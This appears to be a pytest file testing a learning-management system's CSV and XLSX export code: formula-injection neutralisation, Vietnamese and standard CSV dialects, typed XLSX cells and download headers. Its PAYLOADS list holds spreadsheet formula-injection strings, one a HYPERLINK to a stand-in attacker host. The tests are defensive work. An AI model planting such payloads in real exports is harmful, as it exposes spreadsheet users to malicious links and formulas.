"""The spreadsheet writer every export uses (``lms/exports.py``): formula injection neutralised in CSV
and XLSX, the two CSV dialects, typed XLSX cells, one Content-Type."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from lms import exports

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x","Bấm vào")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(body: bytes, delimiter: str = ",") -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "UTF-8 with a BOM, as Excel reads Vietnamese"
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_be_a_formula_gets_a_quote(payload):
    assert exports.neutralise(payload) == "'" + payload
    assert exports.csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "a=b", "1+1", "", "'=already", " =1"])
def test_other_text_is_unchanged(text):
    assert exports.csv_cell(text) == text


def test_numbers_dates_and_empty_cells_in_both_dialects():
    std, vn = exports.STANDARD, exports.VIETNAMESE_EXCEL
    assert [exports.csv_cell(v, std) for v in (-3, 12.5, Decimal("7.25"), 100.0, None, True)] == [
        "-3",
        "12.5",
        "7.25",
        "100",
        "",
        "1",
    ]
    assert [exports.csv_cell(v, vn) for v in (-3, 12.5, Decimal("7.25"), 100.0, -0.5)] == [
        "-3",
        "12,5",
        "7,25",
        "100",
        "-0,5",
    ]
    assert exports.csv_cell(date(2026, 7, 1), std) == "2026-07-01"
    assert exports.csv_cell(date(2026, 7, 1), vn) == "01/07/2026"
    assert exports.csv_cell(datetime(2026, 7, 1, 8, 5), vn) == "01/07/2026 08:05"
    assert exports.csv_cell(datetime(2026, 7, 1, 1, 5, tzinfo=UTC), std) == "2026-07-01 08:05", "Vietnam's time"


def test_csv_standard_and_vietnamese_excel_dialects():
    header = ["Mã", "Họ và tên", "Điểm", "Hết hạn"]
    rows = [["=1+1", PAYLOADS[0], 87.5, date(2027, 1, 31)], ["CB-2", "Trần Thị Bình", -1, None]]
    standard = read_csv(exports.to_csv(header, rows))
    assert standard == [
        header,
        ["'=1+1", "'" + PAYLOADS[0], "87.5", "2027-01-31"],
        ["CB-2", "Trần Thị Bình", "-1", ""],
    ]
    vn = read_csv(exports.to_csv(header, rows, exports.VIETNAMESE_EXCEL), delimiter=";")
    assert vn[1] == ["'=1+1", "'" + PAYLOADS[0], "87,5", "31/01/2027"]
    assert b";" in exports.to_csv(header, rows, exports.VIETNAMESE_EXCEL).split(b"\r\n")[0]


def test_xlsx_never_holds_a_formula_and_keeps_types():
    header = ["Mã", "Họ và tên", "Điểm", "Hết hạn", "Thay đổi"]
    rows = [[p, p, 87.5, date(2027, 1, 31), -2] for p in PAYLOADS] + [["CB-2", "Bình", 70, None, 0]]
    body = exports.to_xlsx(header, rows, sheet="Cán bộ: [tỉnh]", title="Kết quả")
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no formula element anywhere"
    ws = load_workbook(io.BytesIO(body)).active
    assert ws.title == "Cán bộ   tỉnh"  # characters Excel refuses in a sheet name are replaced
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][0] == "Kết quả" and values[1] == header
    for row, payload in zip(ws.iter_rows(min_row=3), PAYLOADS, strict=False):
        code, name, score, expires, change = row
        typed = payload.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert code.value == typed and code.data_type == "s" and code.quotePrefix, "text, shown as typed"
        assert name.value == typed and name.data_type == "s"
        assert score.value == 87.5 and score.data_type == "n"
        assert expires.is_date and expires.value.date() == date(2027, 1, 31) and expires.number_format == "dd/mm/yyyy"
        assert change.value == -2 and change.data_type == "n", "a negative number stays a number"
    assert values[-1] == ["CB-2", "Bình", 70, None, 0]


def test_xlsx_takes_aware_times_and_text_columns():
    body = exports.to_xlsx(
        ["Lúc", "Điện thoại"], [[datetime(2026, 7, 1, 1, 5, tzinfo=UTC), "0912345678"]], text_columns=["Điện thoại"]
    )
    ws = load_workbook(io.BytesIO(body)).active
    when, phone = ws[2]
    assert when.value == datetime(2026, 7, 1, 8, 5) and when.number_format == "dd/mm/yyyy hh:mm"
    assert phone.value == "0912345678" and phone.number_format == "@", "typed as text: the 0 stays"


def test_download_says_its_type_and_charset_once(app):
    with app.test_request_context("/?dialect=vn"):
        response = exports.send_table(["a"], [["=1"]], fmt="csv", stem="xếp-hạng")
    assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]
    assert response.headers["Content-Type"].count("charset") == 1
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="x_p-h_ng-vn.csv"')
    assert "filename*=UTF-8''x%E1%BA%BFp-h%E1%BA%A1ng-vn.csv" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    assert read_csv(response.get_data(), ";") == [["a"], ["'=1"]]
    with app.test_request_context("/"):
        xlsx = exports.send_table(["a"], [[1]], fmt="xlsx", stem="bang")
    assert xlsx.headers["Content-Type"] == exports.XLSX_MIMETYPE
    assert xlsx.get_data()[:2] == b"PK"
